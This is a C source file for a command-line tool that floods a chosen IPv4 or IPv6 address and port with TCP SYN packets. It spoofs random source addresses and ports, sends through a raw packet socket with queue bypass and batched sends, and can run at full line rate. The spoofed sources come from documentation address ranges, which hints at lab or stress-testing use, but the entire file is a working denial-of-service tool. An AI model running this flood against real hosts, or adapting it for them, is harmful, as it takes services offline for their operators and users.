/* SPDX-License-Identifier: BSD-3-Clause */
/*
 * A flood of SYNs from random addresses and ports, as fast as the interface takes them or so many a
 * second, until SIGTERM; prints how many.
 *
 *   syn_flood INTERFACE MAC ADDRESS PORT RATE	RATE 0: as fast as can be
 *
 * Sources are of the documentation's prefixes: 203.0.113.0/24, or 2001:db8:f::/48 for IPv6.
 */
#include <arpa/inet.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <signal.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>

#define BATCH 64

#define TCP_BYTES 40 /* with the options of a usual SYN */
#define IP4_BYTES 20
#define IP6_BYTES 40
#define MAX_BYTES (ETH_HLEN + IP6_BYTES + TCP_BYTES)

struct target {
	uint8_t address[16];
	unsigned int address_bytes;
	uint16_t port_be;
};

static volatile sig_atomic_t stopped;

static void
stop(int signal)
{
	(void)signal;
	stopped = 1;
}

/* SplitMix64: as good as a flood needs. */
static uint64_t
next_random(void)
{
	static uint64_t state;
	uint64_t z;

	if (!state)
		state = (uint64_t)time(NULL) << 20 ^ (uint64_t)clock();
	z = state += 0x9e3779b97f4a7c15ull;
	z = (z ^ z >> 30) * 0xbf58476d1ce4e5b9ull;
	z = (z ^ z >> 27) * 0x94d049bb133111ebull;
	return z ^ z >> 31;
}

static uint32_t
sum_of(uint32_t sum, const uint8_t *data, size_t bytes)
{
	for (size_t i = 0; i < bytes; i += 2)
		sum += (uint32_t)data[i] << 8 | data[i + 1];
	return sum;
}

static void
put_checksum(uint8_t *at, uint32_t sum)
{
	while (sum >> 16)
		sum = (sum & 0xffff) + (sum >> 16);
	sum = ~sum;
	at[0] = (uint8_t)(sum >> 8);
	at[1] = (uint8_t)sum;
}

/* MSS, SACK permitted, timestamps, window scale: what Linux sends. */
static void
write_tcp(uint8_t *tcp, const struct target *target, const uint8_t *addresses)
{
	static const uint8_t options[20] = { 2, 4, 5, 180, 4, 2, 8, 10, 1, 2, 3, 4, 0, 0, 0, 0, 1,
		3, 3, 7 };
	uint64_t random = next_random();

	memset(tcp, 0, TCP_BYTES);
	memcpy(tcp, &random, 2);
	tcp[0] |= 4; /* a port from 1024 on */
	memcpy(tcp + 2, &target->port_be, 2);
	memcpy(tcp + 4, (uint8_t *)&random + 2, 4);
	tcp[12] = TCP_BYTES / 4 << 4;
	tcp[13] = 2;
	tcp[14] = 0xfa;
	memcpy(tcp + 20, options, sizeof(options));
	put_checksum(tcp + 16,
		sum_of(sum_of(IPPROTO_TCP + TCP_BYTES, addresses, 2 * target->address_bytes), tcp,
			TCP_BYTES));
}

static size_t
write_frame(uint8_t *frame, const struct target *target)
{
	uint8_t *ip = frame + ETH_HLEN;
	uint64_t random = next_random();

	if (target->address_bytes == 4) {
		static const uint8_t header[16] = { 0x45, 0, 0, IP4_BYTES + TCP_BYTES, 0, 0, 0x40,
			0, 64, IPPROTO_TCP, 0, 0, 203, 0, 113, 0 };

		memcpy(ip, header, sizeof(header));
		ip[15] = (uint8_t)random;
		memcpy(ip + 16, target->address, 4);
		put_checksum(ip + 10, sum_of(0, ip, IP4_BYTES));
		write_tcp(ip + IP4_BYTES, target, ip + 12);
		return ETH_HLEN + IP4_BYTES + TCP_BYTES;
	}
	memset(ip, 0, IP6_BYTES);
	ip[0] = 0x60;
	ip[5] = TCP_BYTES;
	ip[6] = IPPROTO_TCP;
	ip[7] = 64;
	memcpy(ip + 8, (const uint8_t[]){ 0x20, 0x01, 0x0d, 0xb8, 0, 0xf }, 6);
	memcpy(ip + 16, &random, 8);
	memcpy(ip + 24, target->address, 16);
	write_tcp(ip + IP6_BYTES, target, ip + 8);
	return ETH_HLEN + IP6_BYTES + TCP_BYTES;
}

static bool
read_target(char **argv, struct target *target, uint8_t *ethernet)
{
	target->port_be = htons((uint16_t)atoi(argv[4]));
	target->address_bytes = 16;
	if (inet_pton(AF_INET6, argv[3], target->address) != 1) {
		target->address_bytes = 4;
		if (inet_pton(AF_INET, argv[3], target->address) != 1)
			return false;
	}
	ethernet[6] = 2; /* nobody's */
	ethernet[11] = 0xf1;
	ethernet[12] = target->address_bytes == 4 ? 0x08 : 0x86;
	ethernet[13] = target->address_bytes == 4 ? 0x00 : 0xdd;
	return sscanf(argv[2], "%hhx:%hhx:%hhx:%hhx:%hhx:%hhx", &ethernet[0], &ethernet[1],
		       &ethernet[2], &ethernet[3], &ethernet[4], &ethernet[5]) == 6;
}

static int
open_socket(const char *interface)
{
	struct sockaddr_ll to = {
		.sll_family = AF_PACKET,
		.sll_ifindex = (int)if_nametoindex(interface),
	};
	int fd = socket(AF_PACKET, SOCK_RAW, 0), yes = 1;

	if (fd < 0 || bind(fd, (struct sockaddr *)&to, sizeof(to)) < 0)
		return -1;
	setsockopt(fd, SOL_PACKET, PACKET_QDISC_BYPASS, &yes, sizeof(yes));
	return fd;
}

/* Waits until so many are due. */
static void
pace(uint64_t sent, uint64_t rate, const struct timespec *start)
{
	struct timespec due = *start;

	if (!rate)
		return;
	due.tv_sec += (time_t)(sent / rate);
	due.tv_nsec += (long)(sent % rate * 1000000000ull / rate);
	if (due.tv_nsec >= 1000000000) {
		due.tv_sec++;
		due.tv_nsec -= 1000000000;
	}
	clock_nanosleep(CLOCK_MONOTONIC, TIMER_ABSTIME, &due, NULL);
}

static uint64_t
flood(int fd, const struct target *target, const uint8_t *ethernet, uint64_t rate)
{
	static uint8_t frames[BATCH][MAX_BYTES];
	struct mmsghdr messages[BATCH] = { 0 };
	struct iovec parts[BATCH];
	struct timespec start;
	uint64_t sent = 0;

	clock_gettime(CLOCK_MONOTONIC, &start);
	while (!stopped) {
		int count;

		for (int i = 0; i < BATCH; i++) {
			memcpy(frames[i], ethernet, ETH_HLEN);
			parts[i] = (struct iovec){ frames[i], write_frame(frames[i], target) };
			messages[i].msg_hdr.msg_iov = &parts[i];
			messages[i].msg_hdr.msg_iovlen = 1;
		}
		count = sendmmsg(fd, messages, BATCH, 0);
		sent += count > 0 ? (uint64_t)count : 0; /* else its queue is full */
		pace(sent, rate, &start);
	}
	return sent;
}

int
main(int argc, char **argv)
{
	uint8_t ethernet[ETH_HLEN] = { 0 };
	struct target target;
	int fd;

	if (argc != 6 || !read_target(argv, &target, ethernet)) {
		fprintf(stderr, "usage: %s INTERFACE MAC ADDRESS PORT RATE\n", argv[0]);
		return 2;
	}
	fd = open_socket(argv[1]);
	if (fd < 0) {
		perror(argv[1]);
		return 1;
	}
	signal(SIGTERM, stop);
	printf("%llu\n",
		(unsigned long long)flood(fd, &target, ethernet, strtoull(argv[5], NULL, 10)));
	return 0;
}
